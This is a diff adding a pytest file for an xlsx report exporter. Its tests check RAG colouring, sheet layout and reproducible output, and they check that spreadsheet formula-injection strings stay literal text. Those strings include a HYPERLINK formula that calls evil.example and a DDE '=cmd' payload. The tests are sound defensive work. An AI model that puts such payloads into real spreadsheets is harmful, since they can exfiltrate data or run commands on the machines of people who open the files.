@@ -1,0 +1,322 @@
+"""--format xlsx: the plan with its RAG in Excel, coloured, filtered, and text always text."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import hashlib
+import io
+import re
+import shutil
+import subprocess
+import zipfile
+
+import openpyxl
+import pytest
+from conftest import action
+from factories import COMPLETED, HOSTILE_TEXT, MINOR, make_context
+
+from wfs_reports.cli import main
+from wfs_reports.context import Changes
+from wfs_reports.render_xlsx import render_xlsx
+from wfs_reports.resources import load_templates
+
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/steal?x=1","Click for update")',
+    "=1+1",
+    "+44 20 7364 5000",
+    "-5% against plan",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def workbook_of(data: bytes) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+def sheet_xml(data: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
+                       if name.startswith("xl/worksheets/"))
+
+
+def header(sheet) -> list[str]:
+    return [cell.value for cell in sheet[1]]
+
+
+def column(sheet, name: str) -> list:
+    index = header(sheet).index(name)
+    return [row[index].value for row in sheet.iter_rows(min_row=2)]
+
+
+# ---------------------------------------------------------------- the renderer
+
+
+@pytest.fixture(scope="module")
+def rendered():
+    context = make_context()
+    return context, render_xlsx(context)
+
+
+def test_actions_sheet_has_one_row_per_action_in_report_order(rendered):
+    context, result = rendered
+    sheet = workbook_of(result.data)["Actions"]
+    assert header(sheet) == ["Recommendation", "Action", "Owner(s)", "Completion Date",
+                             "Due date(s)", "Status", "Comments", "RAG Status", "Why",
+                             "Workbook row"]
+    actions = [a for r in context.recommendations for a in r.actions]
+    assert sheet.max_row == 1 + len(actions)
+    assert column(sheet, "Action") == [a.action for a in actions]
+    assert column(sheet, "Workbook row") == [a.row for a in actions]
+    assert column(sheet, "Recommendation") == [a.ref for a in actions]
+    assert column(sheet, "RAG Status") == [a.rag.label for a in actions]
+    assert column(sheet, "Why") == [a.computed_comment for a in actions]
+    assert column(sheet, "Completion Date")[0] == "Stage 1: Q4 2023-24 Stage 2: TBC"
+    assert column(sheet, "Due date(s)")[0] == "Stage 1: 31/03/2024; Stage 2: TBC"
+    assert column(sheet, "Due date(s)")[1].date().isoformat() == "2024-03-31"
+
+
+def test_rag_cells_are_filled_and_lettered_in_the_rules_colours(rendered):
+    context, result = rendered
+    sheet = workbook_of(result.data)["Actions"]
+    rag_column = header(sheet).index("RAG Status")
+    actions = [a for r in context.recommendations for a in r.actions]
+    for row, item in zip(sheet.iter_rows(min_row=2), actions, strict=True):
+        cell = row[rag_column]
+        if item.rag.fill:
+            assert cell.fill.fill_type == "solid"
+            assert cell.fill.fgColor.rgb[-6:] == item.rag.fill.lstrip("#").upper()
+        else:
+            assert cell.fill.fill_type is None
+        assert cell.font.color.rgb[-6:] == item.rag.text_colour.lstrip("#").upper()
+        assert cell.font.b
+
+
+def test_header_is_frozen_filtered_wrapped_and_sized(rendered):
+    _context, result = rendered
+    workbook = workbook_of(result.data)
+    assert workbook.sheetnames == ["Actions", "Summary", "Exceptions"]
+    sheet = workbook["Actions"]
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:J{sheet.max_row}"
+    assert sheet.column_dimensions["B"].width >= 40  # Action
+    assert all(cell.alignment.wrap_text for row in sheet.iter_rows() for cell in row)
+    assert sheet.row_dimensions[4].height > 15  # the 300-character action wraps
+
+
+def test_text_is_never_a_formula(rendered):
+    context, _result = rendered
+    rec = context.recommendations[0]
+    hostile = [dataclasses.replace(rec.actions[0], action=text, owners=text, comments=text)
+               for text in FORMULA_TEXTS]
+    data = render_xlsx(make_context([dataclasses.replace(rec, actions=tuple(hostile))])).data
+    xml = sheet_xml(data)
+    assert "<f>" not in xml and "<f " not in xml
+    sheet = workbook_of(data)["Actions"]
+    assert column(sheet, "Action") == FORMULA_TEXTS
+    assert all(c.data_type == "s" for c in sheet["B"][1:])
+    assert all(c.quotePrefix for c in sheet["B"][1:])
+
+
+def test_hostile_text_is_kept_literally(rendered):
+    _context, result = rendered
+    sheet = workbook_of(result.data)["Actions"]
+    assert HOSTILE_TEXT in column(sheet, "Comments")
+
+
+def test_characters_excel_cannot_hold_are_dropped_with_a_warning_naming_the_cell():
+    context = make_context()
+    rec = context.recommendations[0]
+    bad = dataclasses.replace(rec.actions[0], comments="Bell\x07 and form\x0cfeed")
+    result = render_xlsx(make_context([dataclasses.replace(rec, actions=(bad,))]))
+    sheet = workbook_of(result.data)["Actions"]
+    assert sheet["G2"].value == "Bell and formfeed"
+    assert [(p.kind.value, p.where) for p in result.problems] == [("character_dropped",
+                                                                   "Actions!G2")]
+    assert "U+0007, U+000C" in result.problems[0].message
+    assert "row 2 of the workbook" in result.problems[0].message
+
+
+def test_trend_column_only_with_an_earlier_report(rendered):
+    context, _result = rendered
+    rec = context.recommendations[0]
+    trending = dataclasses.replace(rec, actions=tuple(
+        dataclasses.replace(a, rag_previous=MINOR, trend="better") for a in rec.actions))
+    compared = dataclasses.replace(
+        make_context([trending]),
+        changes=Changes("1 September 2023", "old.json", (), (), (), (), ()))
+    sheet = workbook_of(render_xlsx(compared).data)["Actions"]
+    assert "Trend" in header(sheet)
+    assert set(column(sheet, "Trend")) == {"↑ better"}
+    assert "Trend" not in header(workbook_of(_result.data)["Actions"])
+
+
+def test_summary_counts_per_recommendation_and_overall(rendered):
+    context, result = rendered
+    sheet = workbook_of(result.data)["Summary"]
+    assert header(sheet) == ["Recommendation", "Completed Action",
+                             "On target but with minor issues", "Missed target requires action",
+                             "Not applicable", "Total counted"]
+    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2, max_row=4)]
+    assert rows == [["Recommendation 1", 1, 0, 1, 0, 2], ["Recommendation 2", 0, 1, 0, 1, 1],
+                    ["All recommendations", 1, 1, 1, 1, 3]]
+    assert sheet["B1"].fill.fgColor.rgb[-6:] == COMPLETED.fill.lstrip("#").upper()
+    assert context.source_sha256 in [c.value for c in sheet["B"]]
+
+
+def test_exceptions_sheet_names_each_cell(rendered):
+    context, result = rendered
+    sheet = workbook_of(result.data)["Exceptions"]
+    assert header(sheet) == ["Recommendation", "Cell", "Action", "Issue", "Kind"]
+    assert [c.value for c in sheet[2]] == ["Recommendation 1", "Actions!D3", "Action on row 3",
+                                          context.exceptions[0].message, "missed"]
+
+
+def test_no_exceptions_says_so():
+    context = dataclasses.replace(make_context(), exceptions=())
+    sheet = workbook_of(render_xlsx(context).data)["Exceptions"]
+    assert sheet["A2"].value == "No exceptions."
+
+
+def test_same_context_gives_the_same_bytes(rendered):
+    context, result = rendered
+    again = render_xlsx(context).data
+    assert again == result.data
+    with zipfile.ZipFile(io.BytesIO(again)) as archive:
+        assert {i.date_time for i in archive.infolist()} == {(2023, 11, 22, 0, 0, 0)}
+
+
+# ---------------------------------------------------------------- make-report --format xlsx
+
+
+def rules_rows() -> list[list]:
+    """One action per RAG rule, as at 22 November 2023."""
+    return [
+        action(1, "Completed", due="Q2 2023-24", status="Completed"),
+        action(1, "Not applicable for the ICB", due="", status="Not applicable", owners=""),
+        action(1, "Missed", due="Q1 2023-24"),
+        action(1, "Date to be confirmed", due="TBC"),
+        action(2, "Ongoing", due="Ongoing"),
+        action(2, "At risk", due="30/11/2023", status="Not started"),
+        action(2, "On target", due="Q4 2023-24"),
+        action(2, "Stale", due="Q4 2023-24", updated="01/06/2023"),
+        action(2, "Overridden with reason", due="Q4 2023-24",
+               override="Missed target requires action", reason="Slipping"),
+        action(2, "Override refused", due="Q1 2023-24", override="G"),
+        action(2, "Unreadable date", due="when pigs fly"),
+    ]
+
+
+def hostile_workbook(make_workbook):
+    rows = [action(1, text, owners=text, comments=text) for text in FORMULA_TEXTS]
+    rows.append(action(1, HOSTILE_TEXT, comments=HOSTILE_TEXT))
+
+    def as_text(workbook):  # an officer's "=..." typed as text ('=...) in Excel
+        for sheet in workbook.worksheets:
+            for row in sheet.iter_rows(min_row=2):
+                for cell in row:
+                    if isinstance(cell.value, str) and cell.value.startswith("="):
+                        cell.data_type = "s"
+
+    return make_workbook(rows, recommendations=[[1, "=HYPERLINK(\"x\",\"y\") first", ""]],
+                         customise=as_text, name="hostile.xlsx")
+
+
+def digest(path) -> tuple[str, int]:
+    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns
+
+
+@pytest.mark.parametrize("which", ["rules", "hostile"])
+def test_make_report_xlsx_one_coloured_row_per_action_and_no_formulas(make_workbook, tmp_path,
+                                                                       which):
+    workbook = make_workbook(rules_rows()) if which == "rules" else hostile_workbook(
+        make_workbook)
+    before = digest(workbook)
+    out = tmp_path / "out"
+    assert main([str(workbook), "--out", str(out), "--format", "xlsx,json", "--quiet"]) == 0
+    assert digest(workbook) == before
+    data = (out / "WFS Action Plan Update - 2023-11-22.xlsx").read_bytes()
+    assert "<f>" not in sheet_xml(data)
+    source = openpyxl.load_workbook(workbook)["Actions"]
+    sheet = workbook_of(data)["Actions"]
+    assert sheet.max_row == source.max_row  # one row per action (and one header)
+    assert column(sheet, "Action") == [c.value for c in source["B"][1:]]
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
+    rules = load_templates(None).rules
+    fills = {look.label: look for look in rules.looks.values()}
+    rag_column = header(sheet).index("RAG Status")
+    for row in sheet.iter_rows(min_row=2):
+        look = fills[row[rag_column].value]
+        if look.fill:
+            assert row[rag_column].fill.fgColor.rgb[-6:] == look.fill.lstrip("#").upper()
+        assert row[rag_column].font.color.rgb[-6:] == look.text.lstrip("#").upper()
+    if which == "rules":
+        assert set(column(sheet, "RAG Status")) == {look.label for look in fills.values()}
+    else:
+        assert column(sheet, "Comments")[0] == FORMULA_TEXTS[0]
+
+
+def test_xlsx_combines_with_every_other_format(make_workbook, tmp_path, capsys):
+    workbook = make_workbook(rules_rows())
+    out = tmp_path / "out"
+    assert main([str(workbook), "--out", str(out), "--format", "docx,pdf,json,xlsx"]) == 0
+    assert sorted(p.suffix for p in out.iterdir()) == [".docx", ".json", ".pdf", ".xlsx"]
+    assert ".xlsx." in capsys.readouterr().out.splitlines()[-1]
+
+
+def test_same_workbook_gives_the_same_xlsx_bytes(make_workbook, tmp_path):
+    workbook = make_workbook(rules_rows())
+    for name in ("first", "second"):
+        assert main([str(workbook), "--out", str(tmp_path / name), "--format", "xlsx",
+                     "--quiet"]) == 0
+    name = "WFS Action Plan Update - 2023-11-22.xlsx"
+    assert (tmp_path / "first" / name).read_bytes() == (tmp_path / "second" / name).read_bytes()
+
+
+def test_the_report_is_never_written_over_the_workbook_it_reads(make_workbook, tmp_path, capsys):
+    workbook = make_workbook(rules_rows(), name="WFS Action Plan Update - 2023-11-22.xlsx")
+    before = digest(workbook)
+    assert main([str(workbook), "--out", str(workbook.parent), "--format", "xlsx"]) == 1
+    assert digest(workbook) == before
+    assert "this is the workbook being read" in capsys.readouterr().err
+
+
+# ---------------------------------------------------------------- LibreOffice Calc
+
+
+def _calc_or_skip(tmp_path) -> str:
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.skip("LibreOffice (soffice) is not installed")
+    # soffice without its Calc module (e.g. only libreoffice-writer) opens no workbook at
+    # all: try a plain openpyxl workbook first, so that is a skip, not a failure.
+    probe = tmp_path / "probe.xlsx"
+    blank = openpyxl.Workbook()
+    blank.active["A1"] = "probe"
+    blank.save(probe)
+    if not _to_csv(soffice, probe, tmp_path).exists():
+        pytest.skip("LibreOffice Calc is not installed (soffice cannot open any .xlsx)")
+    return soffice
+
+
+def _to_csv(soffice: str, path, tmp_path):
+    subprocess.run(
+        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
+         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
+         str(tmp_path / "csv"), str(path)],
+        capture_output=True, timeout=180, check=False,
+    )
+    return tmp_path / "csv" / f"{path.stem}.csv"
+
+
+def test_libreoffice_calc_opens_it_and_keeps_formula_text_as_text(make_workbook, tmp_path):
+    soffice = _calc_or_skip(tmp_path)
+    out = tmp_path / "out"
+    assert main([str(hostile_workbook(make_workbook)), "--out", str(out), "--format", "xlsx",
+                 "--quiet"]) == 0
+    converted = _to_csv(soffice, out / "WFS Action Plan Update - 2023-11-22.xlsx", tmp_path)
+    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
+    assert rows[0][:3] == ["Recommendation", "Action", "Owner(s)"]
+    assert [row[1] for row in rows[1:]] == FORMULA_TEXTS + [HOSTILE_TEXT]
+    assert not any(re.fullmatch(r"2|Click for update|#\w+[!?]?", row[1]) for row in rows)
